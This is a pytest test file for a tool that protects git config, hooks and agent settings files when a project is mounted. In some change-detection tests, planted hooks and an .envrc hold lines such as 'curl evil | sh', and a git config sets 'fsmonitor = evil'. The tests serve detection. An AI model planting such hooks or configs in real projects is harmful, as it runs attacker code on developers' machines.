"""Protected files in a read-write project: scan, copies, and the end report, on real disks.

Repositories are made with the real `git` (submodules from a local repository, worktrees), in
a home of the test's own, so the developer's git configuration plays no part.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from corral.errors import InvalidInput
from corral.protect import (
    DEFAULT_PROTECTED,
    MAX_DEPTH,
    Item,
    Plan,
    ProtectedBind,
    ProtectionRefused,
    changes,
    clone_or_copy,
    escape_name,
    prepare,
    scan,
)
from tests.mounting import mounted, mounted_tmpfs
from tests.snippets import git as run_git


@pytest.fixture
def base(tmp_path: Path) -> Path:
    return tmp_path.resolve()


Git = Callable[..., str]


@pytest.fixture
def git() -> Git:
    """`git(cwd, *args)`: the real git, with no configuration but the test's."""
    return run_git


@pytest.fixture
def project(base: Path) -> Path:
    path = base / "proj"
    path.mkdir()
    (path / "src").mkdir()
    (path / "src" / "main.py").write_text("print('hi')\n")
    return path


@pytest.fixture
def repo(project: Path, git: Git) -> Path:
    git(project, "init", "-q")
    git(project, "commit", "-q", "--allow-empty", "-m", "start")
    return project


@pytest.fixture
def outside(base: Path) -> Path:
    """A host file outside the project, like ~/.ssh/config, that nothing may copy or read."""
    path = base / "home" / ".ssh" / "config"
    path.parent.mkdir(parents=True)
    path.write_text("Host secret\n")
    return path


def kinds(plan: Plan) -> dict[str, str]:
    return {item.rel: item.kind for item in plan.items}


def by_rel(binds: list[ProtectedBind]) -> dict[str, ProtectedBind]:
    return {bind.rel: bind for bind in binds}


def refusal(project: Path) -> str:
    with pytest.raises(ProtectionRefused) as caught:
        scan(project)
    return str(caught.value)


# -- scan: what is found ---------------------------------------------------------------------


def test_a_plain_directory_has_nothing_to_protect(project: Path) -> None:
    plan = scan(project)
    assert plan.items == ()
    assert plan.seen == {}
    assert plan.complete
    assert plan.name == "proj"


def test_a_repository_protects_its_config_and_hooks(repo: Path) -> None:
    plan = scan(repo, name="work")
    assert kinds(plan) == {".git/config": "readonly", ".git/hooks": "hooks"}
    assert {".git", ".git/config", ".git/hooks"} <= plan.seen.keys()
    assert plan.name == "work"


def test_a_submodule_protects_its_module_dir_and_its_git_file(
    base: Path,
    repo: Path,
    git: Git,
) -> None:
    lib = base / "lib"
    lib.mkdir()
    git(lib, "init", "-q")
    git(lib, "commit", "-q", "--allow-empty", "-m", "lib")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "libs/lib")
    assert (repo / "libs" / "lib" / ".git").is_file()
    found = kinds(scan(repo))
    assert found[".git/modules/libs/lib/config"] == "readonly"
    assert found[".git/modules/libs/lib/hooks"] == "hooks"
    assert found["libs/lib/.git"] == "readonly"


def test_a_linked_worktree_protects_its_git_file_and_commondir(
    repo: Path,
    git: Git,
) -> None:
    git(repo, "worktree", "add", "-q", "wt")
    found = kinds(scan(repo))
    assert found["wt/.git"] == "readonly"
    assert found[".git/worktrees/wt/commondir"] == "readonly"
    assert ".git/worktrees/wt/hooks" not in found  # worktrees share the main hooks


def test_a_nested_vendored_repository_is_protected(
    repo: Path,
    git: Git,
) -> None:
    vendored = repo / "vendor" / "thing"
    vendored.mkdir(parents=True)
    git(vendored, "init", "-q")
    found = kinds(scan(repo))
    assert found["vendor/thing/.git/config"] == "readonly"
    assert found["vendor/thing/.git/hooks"] == "hooks"


def test_a_bare_repository_inside_the_project_is_protected(
    repo: Path,
    git: Git,
) -> None:
    git(repo, "init", "-q", "--bare", "mirror.git")
    found = kinds(scan(repo))
    assert found["mirror.git/config"] == "readonly"
    assert found["mirror.git/hooks"] == "hooks"


def test_missing_hooks_are_noted_for_the_caller(repo: Path) -> None:
    shutil.rmtree(repo / ".git" / "hooks")
    plan = scan(repo)
    assert Item(".git/hooks", "hooks", exists=False) in plan.items
    assert ".git/hooks" not in plan.seen


@pytest.mark.parametrize("name", DEFAULT_PROTECTED)
def test_each_default_protected_name_is_copied(project: Path, name: str) -> None:
    path = project / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("{}")
    assert kinds(scan(project)) == {name: "copy"}


def test_protected_names_count_at_the_mount_root_only(project: Path) -> None:
    (project / "src" / ".envrc").write_text("export X=1\n")
    assert scan(project).items == ()


def test_extra_names_are_protected_too(project: Path) -> None:
    (project / "tools").mkdir()
    (project / "tools" / "run.sh").write_text("#!/bin/sh\n")
    (project / "Makefile").write_text("all:\n")
    found = kinds(scan(project, ["tools/run.sh", "Makefile"]))
    assert found == {"tools/run.sh": "copy", "Makefile": "copy"}


@pytest.mark.parametrize("name", ["", "/etc/x", "a/../b", "a//b", "./a", "a/", "a\0b", ".git/x"])
def test_a_bad_extra_name_is_refused(project: Path, name: str) -> None:
    with pytest.raises(InvalidInput, match="protected name"):
        scan(project, [name])


# -- scan: refusals --------------------------------------------------------------------------


def test_a_git_config_linked_outside_is_refused(repo: Path, outside: Path) -> None:
    config = repo / ".git" / "config"
    config.unlink()
    config.symlink_to(outside)
    assert refusal(repo) == (
        "refusing to mount 'proj': .git/config is a symbolic link; protected files must be "
        "regular files (review it on the host)"
    )


def test_a_git_config_that_is_a_directory_is_refused(repo: Path) -> None:
    config = repo / ".git" / "config"
    config.unlink()
    config.mkdir()
    assert ".git/config is a directory" in refusal(repo)


def test_a_git_dir_that_is_a_link_is_refused(base: Path, project: Path, git: Git) -> None:
    elsewhere = base / "elsewhere"
    elsewhere.mkdir()
    git(elsewhere, "init", "-q")
    (project / ".git").symlink_to(elsewhere / ".git")
    message = refusal(project)
    assert message.startswith("refusing to mount 'proj': .git is a symbolic link")


def test_a_nested_git_link_is_refused(project: Path, outside: Path) -> None:
    (project / "src" / ".git").symlink_to(outside.parent)
    assert "src/.git is a symbolic link" in refusal(project)


def test_hooks_that_are_a_link_are_refused(repo: Path, base: Path) -> None:
    hooks = repo / ".git" / "hooks"
    shutil.rmtree(hooks)
    (base / "shared-hooks").mkdir()
    hooks.symlink_to(base / "shared-hooks")
    assert "hooks must be a real directory" in refusal(repo)


def test_a_claude_dir_that_is_a_link_is_refused(project: Path, base: Path) -> None:
    target = base / "claude-elsewhere"
    target.mkdir()
    (project / ".claude").symlink_to(target)
    assert ".claude is a symbolic link; a protected path must go through real" in refusal(project)


def test_a_settings_file_that_is_a_link_is_refused(project: Path, outside: Path) -> None:
    (project / ".mcp.json").symlink_to(outside)
    assert ".mcp.json is a symbolic link" in refusal(project)


def test_a_settings_file_that_is_a_fifo_is_refused(project: Path) -> None:
    (project / ".vscode").mkdir()
    os.mkfifo(project / ".vscode" / "settings.json")
    assert ".vscode/settings.json is a FIFO" in refusal(project)


def test_a_refused_name_is_escaped_in_the_message(project: Path, outside: Path) -> None:
    odd = project / "a\nb\x1b[31m"
    odd.mkdir()
    (odd / ".git").symlink_to(outside.parent)
    message = refusal(project)
    assert "a\\x0ab\\x1b[31m/.git is a symbolic link" in message
    assert "\n" not in message and "\x1b" not in message


# -- scan: bounds ----------------------------------------------------------------------------


def test_the_entry_bound_stops_the_walk_and_says_so(repo: Path) -> None:
    for index in range(50):
        (repo / "src" / f"f{index}").write_text("")
    plan = scan(repo, max_entries=10)
    assert not plan.complete
    assert plan.entries == 10
    assert kinds(plan)[".git/config"] == "readonly"  # the root's .git comes first


def test_directories_deeper_than_the_bound_are_skipped(project: Path) -> None:
    deep = project / "/".join(["d"] * (MAX_DEPTH + 1))
    deep.mkdir(parents=True)
    (deep / "x").mkdir()
    plan = scan(project)
    assert not plan.complete
    assert plan.skipped == ("/".join(["d"] * (MAX_DEPTH + 1)),)


@pytest.fixture
def other_filesystem(project: Path) -> Iterator[Path]:
    """A tmpfs mounted inside the project (needs root and a mount the host allows)."""
    mount_point = project / "cache"
    mount_point.mkdir()
    with mounted_tmpfs(mount_point, "size=1m") as mounted:
        yield mounted


def test_the_walk_does_not_cross_into_another_filesystem(
    project: Path, other_filesystem: Path
) -> None:
    (other_filesystem / ".git").mkdir()
    (other_filesystem / ".git" / "config").write_text("")
    plan = scan(project)
    assert plan.skipped == ("cache",)
    assert not plan.complete
    assert plan.items == ()


# -- prepare ---------------------------------------------------------------------------------


@pytest.fixture
def full_repo(repo: Path) -> Path:
    """A repository with a hook, settings and an .envrc of its own modes."""
    hook = repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o750)
    (repo / ".claude").mkdir()
    (repo / ".claude" / "settings.json").write_text('{"hooks": {}}')
    envrc = repo / ".envrc"
    envrc.write_text("export A=1\n")
    envrc.chmod(0o640)
    return repo


def test_copies_have_the_same_bytes_and_modes(full_repo: Path, base: Path) -> None:
    copies = base / "copies"
    binds = prepare(scan(full_repo), full_repo, copies)
    assert stat.S_IMODE(copies.stat().st_mode) == 0o700
    for bind in binds:
        original = full_repo / bind.rel
        if bind.kind == "hooks":
            assert sorted(p.name for p in bind.source.iterdir()) == sorted(
                p.name for p in original.iterdir()
            )
            original = original / "pre-commit"
            copy = bind.source / "pre-commit"
        else:
            copy = bind.source
        assert copy.read_bytes() == original.read_bytes()
        assert stat.S_IMODE(copy.stat().st_mode) == stat.S_IMODE(original.stat().st_mode)
        assert not copy.is_relative_to(full_repo)


def test_config_is_bound_read_only_and_the_rest_writable(full_repo: Path, base: Path) -> None:
    binds = by_rel(prepare(scan(full_repo), full_repo, base / "copies"))
    flags = {rel: (bind.kind, bind.writable) for rel, bind in binds.items()}
    assert flags == {
        ".git/config": ("readonly", False),
        ".git/hooks": ("hooks", True),
        ".claude/settings.json": ("copy", True),
        ".envrc": ("copy", True),
    }


def test_each_copy_is_fingerprinted(full_repo: Path, base: Path) -> None:
    binds = by_rel(prepare(scan(full_repo), full_repo, base / "copies"))
    envrc = binds[".envrc"].fingerprints[""]
    assert (envrc.type, envrc.size, envrc.mode) == ("file", 11, 0o640)
    assert len(envrc.sha256) == 64
    assert binds[".git/hooks"].fingerprints["pre-commit"].mode == 0o750


def test_the_hooks_copy_keeps_files_and_dirs_and_skips_links_and_fifos(
    full_repo: Path, base: Path, outside: Path
) -> None:
    hooks = full_repo / ".git" / "hooks"
    (hooks / "lib").mkdir(mode=0o710)
    (hooks / "lib" / "common.sh").write_text("x=1\n")
    (hooks / "post-checkout").symlink_to(outside)
    os.mkfifo(hooks / "pipe")
    copy = by_rel(prepare(scan(full_repo), full_repo, base / "copies"))[".git/hooks"].source
    assert (copy / "lib" / "common.sh").read_text() == "x=1\n"
    assert stat.S_IMODE((copy / "lib").stat().st_mode) == 0o710
    assert not os.path.lexists(copy / "post-checkout")
    assert not os.path.lexists(copy / "pipe")


def test_a_source_swapped_for_a_link_after_the_scan_is_refused(
    full_repo: Path, base: Path, outside: Path
) -> None:
    plan = scan(full_repo)
    config = full_repo / ".git" / "config"
    config.unlink()
    config.symlink_to(outside)
    with pytest.raises(ProtectionRefused, match=r"\.git/config became a symbolic link"):
        prepare(plan, full_repo, base / "copies")
    assert all(b"secret" not in p.read_bytes() for p in (base / "copies").rglob("*") if p.is_file())


def test_a_directory_swapped_for_a_link_after_the_scan_is_refused(
    full_repo: Path, base: Path
) -> None:
    plan = scan(full_repo)
    moved = base / "moved-claude"
    (full_repo / ".claude").rename(moved)
    (full_repo / ".claude").symlink_to(moved)
    with pytest.raises(ProtectionRefused, match=r"'proj': \.claude became a symbolic link"):
        prepare(plan, full_repo, base / "copies")


def test_a_source_replaced_after_the_scan_is_refused(full_repo: Path, base: Path) -> None:
    plan = scan(full_repo)
    (full_repo / ".envrc").unlink()
    (full_repo / ".envrc").write_text("export B=2\n")
    with pytest.raises(ProtectionRefused, match="was replaced since the scan"):
        prepare(plan, full_repo, base / "copies")


def test_missing_hooks_get_a_real_mount_point_and_an_empty_copy(repo: Path, base: Path) -> None:
    shutil.rmtree(repo / ".git" / "hooks")
    binds = by_rel(prepare(scan(repo), repo, base / "copies"))
    hooks = repo / ".git" / "hooks"
    assert hooks.is_dir() and not hooks.is_symlink()
    assert list(binds[".git/hooks"].source.iterdir()) == []
    assert binds[".git/hooks"].writable


# -- clone_or_copy ---------------------------------------------------------------------------


def filesystem_type(path: Path) -> str:
    done = subprocess.run(
        ["stat", "-f", "-c", "%T", str(path)], capture_output=True, text=True, check=True
    )
    return done.stdout.strip()


def test_clone_or_copy_falls_back_to_a_byte_copy(base: Path) -> None:
    source = base / "source"
    data = os.urandom(3 * 1024 * 1024 + 7)  # more than one copy chunk
    source.write_bytes(data)
    fd = os.open(source, os.O_RDONLY)
    try:
        cloned = clone_or_copy(fd, base / "copy", 0o751)
    finally:
        os.close(fd)
    if filesystem_type(base) in ("ext2/ext3", "tmpfs"):
        assert cloned is False  # these filesystems cannot share extents
    assert (base / "copy").read_bytes() == data
    assert stat.S_IMODE((base / "copy").stat().st_mode) == 0o751


def test_clone_or_copy_never_writes_through_an_existing_name(base: Path, outside: Path) -> None:
    (base / "source").write_text("new")
    (base / "copy").symlink_to(outside)
    fd = os.open(base / "source", os.O_RDONLY)
    try:
        with pytest.raises(FileExistsError):
            clone_or_copy(fd, base / "copy", 0o644)
    finally:
        os.close(fd)
    assert outside.read_text() == "Host secret\n"


@pytest.fixture
def xfs(base: Path) -> Iterator[Path]:
    """A fresh XFS with reflink, loop-mounted in tmp_path; skipped with what is missing."""
    missing = []
    if os.geteuid() != 0:
        missing.append("root (to mount a loop device)")
    # sbin is usually off a user's PATH, and root's may lack it too (runuser, cron).
    mkfs = shutil.which("mkfs.xfs", path=f"{os.environ.get('PATH', '')}:/usr/sbin:/sbin")
    if mkfs is None:
        missing.append("mkfs.xfs (xfsprogs is not installed)")
    if not Path("/dev/loop-control").exists():
        missing.append("/dev/loop-control")
    if missing:
        pytest.skip("the reflink test needs " + ", ".join(missing))
    image = base / "xfs.img"
    with image.open("wb") as handle:
        handle.truncate(300 * 1024 * 1024)
    subprocess.run([mkfs, "-q", "-m", "reflink=1", str(image)], check=True)
    mount_point = base / "xfs"
    mount_point.mkdir()
    with mounted(mount_point, ["-o", "loop", str(image)], "a loop image") as point:
        yield point


def test_clone_or_copy_reflinks_on_a_filesystem_that_can(xfs: Path) -> None:
    data = os.urandom(1024 * 1024)
    (xfs / "source").write_bytes(data)
    fd = os.open(xfs / "source", os.O_RDONLY)
    try:
        assert clone_or_copy(fd, xfs / "copy", 0o600) is True
    finally:
        os.close(fd)
    assert (xfs / "copy").read_bytes() == data


# -- changes ---------------------------------------------------------------------------------


@pytest.fixture
def session(full_repo: Path, base: Path) -> tuple[Plan, list[ProtectedBind]]:
    plan = scan(full_repo)
    return plan, prepare(plan, full_repo, base / "copies")


def hooks_copy(binds: list[ProtectedBind]) -> Path:
    return by_rel(binds)[".git/hooks"].source


def test_nothing_changed_reports_nothing(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    assert changes(*session, full_repo) == []


def test_a_changed_settings_copy_is_reported(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    by_rel(session[1])[".claude/settings.json"].source.write_text('{"hooks": {"x": 1}}')
    assert changes(*session, full_repo) == ["proj/.claude/settings.json"]


def test_a_same_size_change_is_found_by_its_hash(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    copy = by_rel(session[1])[".envrc"].source
    copy.write_text(copy.read_text().replace("1", "2"))
    assert changes(*session, full_repo) == ["proj/.envrc"]


def test_a_new_hook_is_reported(full_repo: Path, session: tuple[Plan, list[ProtectedBind]]) -> None:
    (hooks_copy(session[1]) / "post-checkout").write_text("#!/bin/sh\ncurl evil\n")
    assert changes(*session, full_repo) == ["proj/.git/hooks/post-checkout"]


def test_a_removed_hook_is_reported(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    (hooks_copy(session[1]) / "pre-commit").unlink()
    assert changes(*session, full_repo) == ["proj/.git/hooks/pre-commit"]


def test_a_hook_made_executable_is_reported(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    (hooks_copy(session[1]) / "pre-commit").chmod(0o755)
    assert changes(*session, full_repo) == ["proj/.git/hooks/pre-commit"]


def test_links_and_fifos_planted_in_the_hooks_copy_are_reported_not_followed(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]], outside: Path
) -> None:
    (hooks_copy(session[1]) / "pre-push").symlink_to(outside)
    os.mkfifo(hooks_copy(session[1]) / "fifo")
    assert changes(*session, full_repo) == ["proj/.git/hooks/fifo", "proj/.git/hooks/pre-push"]


def test_a_new_envrc_in_the_project_is_reported(project: Path, base: Path) -> None:
    plan = scan(project)
    binds = prepare(plan, project, base / "copies")
    (project / ".envrc").write_text("curl evil | sh\n")
    assert changes(plan, binds, project) == ["proj/.envrc"]


def test_a_new_nested_repository_is_reported(
    full_repo: Path,
    session: tuple[Plan, list[ProtectedBind]],
    git: Git,
) -> None:
    git(full_repo / "src", "init", "-q")
    assert changes(*session, full_repo) == [
        "proj/src/.git",
        "proj/src/.git/config",
        "proj/src/.git/hooks",
    ]


def test_a_new_commondir_redirecting_the_config_is_reported(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    """git reads config and hooks from the directory `commondir` names: a way around them."""
    (full_repo / ".git" / "commondir").write_text("../evil\n")
    assert changes(*session, full_repo) == ["proj/.git/commondir"]


def test_a_git_dir_replaced_by_a_link_is_reported(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    (full_repo / ".git").rename(full_repo / "old-git")
    (full_repo / ".git").symlink_to("old-git")
    assert {"proj/.git", "proj/.git/config"} <= set(changes(*session, full_repo))


def test_a_git_dir_moved_aside_and_rebuilt_is_reported(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    """Renaming a parent of a mount point works in a sandbox; the new files are not the old."""
    (full_repo / ".git").rename(full_repo / "old-git")
    (full_repo / ".git").mkdir()
    (full_repo / ".git" / "config").write_text("[core]\n\tfsmonitor = evil\n")
    reported = changes(*session, full_repo)
    assert {"proj/.git", "proj/.git/config"} <= set(reported)


def test_a_settings_file_turned_into_a_fifo_is_reported(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    (full_repo / ".claude" / "settings.json").unlink()
    os.mkfifo(full_repo / ".claude" / "settings.json")
    assert changes(*session, full_repo) == ["proj/.claude/settings.json"]


def test_odd_names_are_escaped_in_the_report(
    full_repo: Path, session: tuple[Plan, list[ProtectedBind]]
) -> None:
    hooks = os.fsencode(hooks_copy(session[1]))
    for name in (b"evil\nname", b"\xff\xfe", b"esc\x1b[31m", b"back\\slash"):
        with open(hooks + b"/" + name, "wb") as handle:
            handle.write(b"x")
    reported = changes(*session, full_repo)
    assert reported == sorted(
        [
            "proj/.git/hooks/\\xff\\xfe",
            "proj/.git/hooks/back\\\\slash",
            "proj/.git/hooks/esc\\x1b[31m",
            "proj/.git/hooks/evil\\x0aname",
        ]
    )
    assert all(name.isprintable() for name in reported)


# -- escape_name -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("plain/name.txt", "plain/name.txt"),
        ("a\nb", "a\\x0ab"),
        ("tab\there", "tab\\x09here"),
        ("del\x7f", "del\\x7f"),
        ("back\\slash", "back\\\\slash"),
        (b"\xff", "\\xff"),
        ("\udcff", "\\xff"),
        ("\ud800", "\\ud800"),
        ("café", "café"),
        ("日本語", "日本語"),
        ("\u202eexe.txt", "\\u202eexe.txt"),
        ("\x85", "\\u0085"),
        ("\u00a0", "\\u00a0"),
        ("\U0001f600", "\\U0001f600"),
    ],
)
def test_escape_name(name: str | bytes, shown: str) -> None:
    assert escape_name(name) == shown


def test_escaping_is_one_to_one_for_lookalikes() -> None:
    assert escape_name("\n") != escape_name("\\x0a")
    assert escape_name(b"\x85") != escape_name("\x85")
